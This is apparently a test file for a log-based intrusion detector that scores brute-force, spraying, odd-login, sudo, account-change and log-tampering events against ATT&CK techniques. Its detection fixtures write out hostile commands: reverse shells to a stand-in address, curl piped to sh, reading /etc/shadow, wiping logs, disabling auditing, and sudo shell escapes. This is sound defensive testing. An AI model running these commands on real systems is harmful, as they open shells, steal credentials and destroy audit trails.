// From when on each rule speaks, how loudly, and of which technique: short logs in the wordings of the real programs.
import assert from 'node:assert/strict';
import { test } from 'node:test';
import { createRandom } from '../../learn/random.ts';
import { createCore } from '../core.ts';
import type { GuardAlert } from '../alert/alert.ts';
import { logWriter, type LogWriter } from '../demo/log-writer.ts';
import { createParser, newTally } from '../parse/parser.ts';
import { guardConfig } from '../profile.ts';
import { DEFAULT_USER_SETTINGS } from '../../../../src-preload/contract.ts';
import { combine, pointsOf, riskOf, scoreOf } from './risk.ts';
import { rising } from './rule.ts';
import { TACTICS, TECHNIQUES } from './techniques.ts';
import { RULES } from './rules.ts';

const START_MS = new Date(2026, 1, 2, 9, 0, 0).getTime();
const ATTACKER = '203.0.113.66';
const HOME = '198.51.100.20';

async function alertsOf(play: (log: LogWriter) => void): Promise<readonly GuardAlert[]> {
  const core = createCore({ config: guardConfig(DEFAULT_USER_SETTINGS.guard), random: createRandom(1) });
  const parser = createParser(
    { format: 'lines', role: 'all', notAfterMs: () => START_MS + 365 * 86_400_000 },
    newTally(),
  );
  const log = logWriter(START_MS, createRandom(2));
  play(log);
  const cycle = await core.take(log.lines(), parser);
  const late = [await core.idle(0), await core.idle(120_000)];
  return [...new Map([cycle, ...late].flatMap(({ raised }) => raised).map(({ alert }) => [alert.id, alert])).values()];
}

/** `T1110.001 0.45`, in the order in which they came. */
const told = async (play: (log: LogWriter) => void): Promise<readonly string[]> =>
  (await alertsOf(play)).map(({ techniques, score }) => `${techniques[0]?.id ?? ''} ${score.toFixed(2)}`);

const failures =
  (count: number, user = 'root', gapS = 3) =>
  (log: LogWriter): void => {
    for (let n = 0; n < count; n += 1) {
      log.failed(user, ATTACKER, true);
      log.wait(gapS);
    }
  };
/** Somebody who comes from home by day. */
const known = (log: LogWriter, logins: number, user = 'bob'): void => {
  for (let n = 0; n < logins; n += 1) {
    log.login(user, HOME);
    log.wait(86_400);
  }
};

test('guessing: five failures are LOW, ten MEDIUM, twenty HIGH; one account fewer does nothing', async () => {
  assert.deepEqual(await told(failures(4)), []);
  assert.deepEqual(await told(failures(5)), ['T1110.001 0.45']);
  assert.deepEqual(await told(failures(10)), ['T1110.001 0.65']);
  assert.deepEqual(await told(failures(20)), ['T1110.001 0.82']);
  // A minute apart there are never more than five in five minutes; two minutes apart, none.
  assert.deepEqual(await told(failures(12, 'root', 120)), []);
});

test('guessing that is slow: twenty in a day', async () => {
  assert.deepEqual(await told(failures(19, 'root', 600)), []);
  assert.deepEqual(await told(failures(20, 'root', 600)), ['T1110.001 0.45']);
});

test('somebody who has forgotten a password, at a place that is known, is half as bad', async () => {
  const forgotten = (log: LogWriter): void => {
    known(log, 4);
    for (let n = 0; n < 10; n += 1) log.failed('bob', HOME, true);
  };
  assert.deepEqual(await told(forgotten), []);
});

test('spraying: five names, each at most three times', async () => {
  const names =
    (count: number, tries: number) =>
    (log: LogWriter): void => {
      for (let n = 0; n < count * tries; n += 1) log.failed(`name${n % count}`, ATTACKER);
    };
  assert.deepEqual(await told(names(4, 1)), []);
  assert.deepEqual(await told(names(5, 1)), ['T1110.003 0.62']);
  assert.deepEqual(await told(names(10, 2)), ['T1110.003 0.82']);
  // Five names with ten tries each are guessing.
  assert.deepEqual(
    (await told(names(5, 10))).map((one) => one.slice(0, 9)),
    ['T1110.003', 'T1110.001'],
  );
});

test('many addresses: names once each are a stolen list, the same names again are spraying, one name is guessing', async () => {
  const from =
    (name: (n: number) => string, count = 30) =>
    (log: LogWriter): void => {
      for (let n = 0; n < count; n += 1) log.failed(name(n), `203.0.113.${n % 10}`);
    };
  assert.deepEqual(
    (await told(from((n) => `n${n}`))).map((one) => one.slice(0, 9)),
    ['T1110.004'],
  );
  assert.deepEqual(
    (await told(from((n) => `n${n % 7}`))).map((one) => one.slice(0, 9)),
    ['T1110.003'],
  );
  assert.deepEqual(
    (await told(from(() => 'root'))).map((one) => one.slice(0, 9)),
    ['T1110.001'],
  );
  assert.deepEqual(await told(from((n) => `n${n}`, 14)), []);
});

test('a success after failures: CRITICAL from eight on, less for a person who mistypes, less for a key', async () => {
  const then =
    (count: number, method: 'password' | 'publickey' = 'password') =>
    (log: LogWriter): void => {
      failures(count, 'bob')(log);
      log.login('bob', ATTACKER, method);
    };
  assert.deepEqual(await told(then(2)), []);
  assert.deepEqual(await told(then(3)), ['T1110.001 0.45']);
  assert.deepEqual(
    (await alertsOf(then(8))).map(({ risk }) => risk),
    ['CRITICAL'],
  );
  // The failures alone are MEDIUM; the key adds half of .91.
  assert.equal(
    (await alertsOf(then(8, 'publickey'))).some(({ risk }) => risk === 'CRITICAL'),
    false,
  );
  const mistyped = (log: LogWriter): void => {
    known(log, 4);
    for (let n = 0; n < 3; n += 1) log.failed('bob', HOME, true);
    log.login('bob', HOME);
  };
  assert.deepEqual(await told(mistyped), []);
});

test('a login from a network that is new, and at an hour that is new', async () => {
  assert.deepEqual(
    await told((log) => {
      known(log, 2);
      log.login('bob', ATTACKER);
    }),
    [],
  );
  assert.deepEqual(
    await told((log) => {
      known(log, 3);
      log.login('bob', ATTACKER);
    }),
    ['T1078 0.50'],
  );
  assert.deepEqual(
    await told((log) => {
      known(log, 20);
      log.wait(12 * 3600);
      log.login('bob', ATTACKER);
    }),
    // 1 − .5 · .7
    ['T1078 0.65'],
  );
  assert.deepEqual(
    await told((log) => {
      known(log, 20);
      log.login('bob', '198.51.100.99');
    }),
    [],
  );
});

test('becoming root: the first time, refused, and at once after an odd login', async () => {
  assert.deepEqual(
    await told((log) => {
      known(log, 3);
      log.sudo('bob', '/usr/bin/apt-get update');
    }),
    ['T1548.003 0.45'],
  );
  assert.deepEqual(
    await told((log) => {
      log.sudoRefused('bob', 2);
    }),
    [],
  );
  assert.deepEqual(
    await told((log) => {
      log.sudoRefused('bob', 3);
    }),
    ['T1548.003 0.45'],
  );
  assert.deepEqual(
    await told((log) => {
      log.say('sudo', 'eve : user NOT in sudoers ; TTY=pts/0 ; PWD=/ ; USER=root ; COMMAND=/bin/sh');
    }),
    ['T1548.003 0.50'],
  );
  const quick =
    (seconds: number) =>
    (log: LogWriter): void => {
      known(log, 3);
      log.login('bob', ATTACKER);
      log.wait(seconds);
      log.sudo('bob', '/usr/bin/apt-get update');
    };
  // 1 − (1 − .62) · (1 − .45)
  assert.deepEqual(await told(quick(5)), ['T1078 0.50', 'T1548.003 0.79']);
  assert.deepEqual(await told(quick(60)), ['T1078 0.50', 'T1548.003 0.45']);
});

test('commands that are known for misuse', async () => {
  const cases: readonly (readonly [command: string, technique: string])[] = [
    ['/usr/bin/truncate -s 0 /var/log/auth.log', 'T1070.002'],
    ['/usr/bin/journalctl --vacuum-time=1s', 'T1070.002'],
    ['/usr/bin/bash -c echo > /var/log/syslog', 'T1070.002'],
    ['/usr/bin/systemctl stop rsyslog', 'T1562.006'],
    ['/usr/bin/systemctl disable --now fail2ban', 'T1562.001'],
    ['/usr/sbin/auditctl -e 0', 'T1562.012'],
    ['/usr/sbin/iptables -F', 'T1562.004'],
    ['/usr/bin/cat /etc/shadow', 'T1003.008'],
    ['/usr/bin/chmod u+s /bin/bash', 'T1548.001'],
    ['/usr/bin/chmod 4755 /tmp/x', 'T1548.001'],
    ['/usr/bin/tee -a /root/.ssh/authorized_keys', 'T1098.004'],
    ['/usr/bin/nc -e /bin/sh 203.0.113.66 4444', 'T1059.004'],
    ['/usr/bin/bash -c bash -i >& /dev/tcp/203.0.113.66/4444 0>&1', 'T1059.004'],
    ['/usr/bin/sh -c curl http://203.0.113.66/x | sh', 'T1105'],
    ['/usr/bin/find . -exec /bin/sh ; -quit', 'T1548.003'],
    ["/usr/bin/vim -c ':!/bin/sh'", 'T1548.003'],
    ['/usr/bin/awk BEGIN {system("/bin/sh")}', 'T1548.003'],
    ['/usr/bin/python3 -c import os; os.system("/bin/sh")', 'T1548.003'],
  ];
  for (const [command, technique] of cases)
    assert.deepEqual(
      (await alertsOf((log) => log.sudo('alice', command))).map((alert) => alert.techniques[0]?.id),
      [technique],
      command,
    );
  for (const command of [
    ...[
      '/usr/bin/apt-get install rsync',
      '/usr/bin/systemctl restart rsyslog',
      '/usr/bin/systemctl status auditd',
      '/usr/bin/less /var/log/auth.log',
    ],
    ...[
      '/usr/bin/chmod 644 /etc/hosts',
      '/usr/bin/chmod 0755 /usr/local/bin/x',
      '/usr/bin/vim /etc/hosts',
      '/usr/bin/journalctl -u ssh',
    ],
    ...[
      '/usr/bin/python3 manage.py migrate',
      '/usr/bin/iptables -L',
      '/usr/bin/tail -f /var/log/syslog',
      '/usr/bin/modinfo e1000',
    ],
  ])
    assert.deepEqual(await told((log) => log.sudo('alice', command)), [], command);
});

test('accounts and groups; whose doing it was, where a command says so', async () => {
  const [made] = await alertsOf((log) => {
    log.sudo('alice', '/usr/sbin/adduser eve');
    log.say('useradd', 'new user: name=eve, UID=1001, GID=1001, home=/home/eve, shell=/bin/bash, from=none');
  });
  assert.equal(made?.explanation, 'The account eve was made, probably by alice.');
  assert.deepEqual([made?.subject, made?.score], [{ kind: 'user', name: 'alice' }, 0.45]);
  assert.deepEqual(
    await told((log) => log.say('useradd', 'new user: name=toor, UID=0, GID=0, home=/, shell=/bin/sh, from=none')),
    ['T1136.001 0.86'],
  );
  assert.deepEqual(
    await told((log) => log.say('useradd', 'new user: name=www, UID=998, GID=998, home=/, shell=/bin/sh, from=none')),
    [],
  );
  assert.deepEqual(await told((log) => log.say('usermod', "add 'eve' to group 'docker'")), ['T1098.007 0.60']);
  assert.deepEqual(await told((log) => log.say('usermod', "add 'eve' to group 'audio'")), []);
  assert.deepEqual(await told((log) => log.say('usermod', "change user 'eve' UID from '1001' to '0'")), ['T1098 0.90']);
  assert.deepEqual(await told((log) => log.say('passwd', 'pam_unix(passwd:chauthtok): password changed for eve')), []);
  assert.deepEqual(await told((log) => log.say('passwd', 'pam_unix(passwd:chauthtok): password changed for root')), [
    'T1098 0.55',
  ]);
});

test('what writes the log is missed after a minute, not when it restarts, nor at a shutdown', async () => {
  const origin = '[origin software="rsyslogd" swVersion="8.2302.0" x-pid="1"]';
  assert.deepEqual(await told((log) => log.say('rsyslogd', `${origin} exiting on signal 15.`)), ['T1562.006 0.68']);
  assert.deepEqual(
    await told((log) => {
      log.say('rsyslogd', `${origin} exiting on signal 15.`);
      log.wait(2);
      log.say('rsyslogd', `${origin} start`);
      log.wait(600);
      log.say('CRON', '(root) CMD (true)');
    }),
    [],
  );
  assert.deepEqual(
    await told((log) => {
      log.say('systemd[1]', 'Stopped auditd.service - Security Auditing Service.');
      log.say('systemd-logind', 'System is powering down.');
      log.wait(600);
      log.say('CRON', '(root) CMD (true)');
    }),
    [],
  );
});

test('every rule says its threshold and where it comes from, and its technique has a tactic', () => {
  assert.equal(new Set(RULES.map(({ name }) => name)).size, RULES.length);
  for (const { name, threshold, why, on, technique } of RULES) {
    assert.ok(threshold.length > 10 && why.length > 20 && on.length > 0, name);
    assert.ok(TACTICS.includes(TECHNIQUES[technique].tactic), name);
  }
});

test('scores add up as chances do, and the points of an alert to its score', () => {
  assert.equal(combine([]), 0);
  assert.ok(Math.abs(combine([0.5, 0.5]) - 0.75) < 1e-12);
  assert.equal(combine([0.99, 0.99, 0.99]), 0.99);
  assert.deepEqual([0.1, 0.6, 0.79, 0.8, 0.9].map(riskOf), ['LOW', 'MEDIUM', 'MEDIUM', 'HIGH', 'CRITICAL']);
  const findings = [
    { strength: 0.6, evidence: 'a' },
    { strength: 0.5, evidence: 'a' },
    { strength: 0.2, evidence: 'b' },
  ];
  // What rests on the same counts once: 1 − .4 · .8.
  assert.ok(Math.abs(scoreOf(findings) - 0.68) < 1e-12);
  const points = pointsOf(findings);
  assert.equal(points[1], 0);
  assert.ok(Math.abs(points.reduce((sum, one) => sum + one, 0) - 0.68) < 1e-12);
  // ln .4 : ln .8 is 4.106 to 1.
  assert.ok(Math.abs((points[0] ?? 0) / (points[2] ?? 1) - Math.log(0.4) / Math.log(0.8)) < 1e-9);
  assert.deepEqual(
    [4, 5, 10, 100, 1000].map((n) =>
      rising(n, [
        [5, 0.4],
        [10, 0.6],
        [100, 0.8],
      ]),
    ),
    [0, 0.4, 0.6, 0.8, 0.8],
  );
  // Half way between 10 and 100 in the logarithm is 31.6.
  assert.ok(
    Math.abs(
      rising(10 * Math.sqrt(10), [
        [10, 0.6],
        [100, 0.8],
      ]) - 0.7,
    ) < 1e-12,
  );
});
